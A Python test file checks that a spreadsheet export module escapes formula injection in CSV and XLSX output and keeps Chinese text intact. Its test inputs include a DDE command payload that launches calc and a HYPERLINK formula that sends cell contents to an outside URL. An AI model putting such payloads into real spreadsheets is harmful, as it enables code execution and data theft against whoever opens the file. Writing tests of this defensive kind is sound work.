"""A file for a spreadsheet: Chinese stays Chinese, and nothing in it is run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from models.spreadsheet import BEGINS_A_FORMULA, as_csv, as_xlsx

HEADINGS = ("单位", "数值")


def read(paper):
    """The lines as a spreadsheet takes them."""
    return list(csv.reader(io.StringIO(paper.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        *("=1+1", '=HYPERLINK("http://example.org?"&A1)', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"),
        *("\n=1", "＝1+1", "＋1", "－1", "＠1", "-", "=", "+-1", "-1e5"),
    ],
)
def test_a_cell_that_a_spreadsheet_would_run_is_text(cell):
    assert read(as_csv(HEADINGS, [(cell, 1)]))[1] == [f"'{cell}", "1"]


@pytest.mark.parametrize("cell", [-3.5, 0, "-12", "+8613900000101", "六坪村", "3-5", "", None, "'", "a=b"])
def test_numbers_and_names_stay_as_they_are(cell):
    assert read(as_csv(HEADINGS, [(cell, 1)]))[1] == ["" if cell is None else str(cell), "1"]


def test_a_heading_is_held_to_the_same():
    assert read(as_csv(("=1+1",), []))[0] == ["'=1+1"]


@given(st.lists(st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\0")), min_size=1, max_size=3))
def test_whatever_stands_in_a_cell_it_neither_runs_nor_spills_into_the_next(cells):
    (_, line) = read(as_csv(HEADINGS, [cells])) if any(cells) else (None, cells)
    assert len(line) == len(cells)
    for cell, written in zip(cells, line, strict=True):
        assert written.removeprefix("'").strip("\r\n") == cell.removeprefix("'").strip("\r\n")
        assert not written.startswith(BEGINS_A_FORMULA) or written.lstrip("+-").replace(".", "").isdecimal()


@pytest.mark.parametrize("begin", BEGINS_A_FORMULA)
def test_in_a_workbook_what_begins_like_a_formula_is_text_and_a_count_is_a_number(begin):
    made = as_xlsx(("编号", "件数"), [(f"{begin}HYPERLINK(1)", 3), ("响铃\x07", None)])
    sheet = load_workbook(io.BytesIO(made)).active
    formula, count = sheet["A2"], sheet["B2"]
    assert (formula.data_type, count.data_type, count.value) == ("s", "n", 3)
    assert "HYPERLINK(1)" in formula.value
    assert sheet["A3"].value == "响铃"
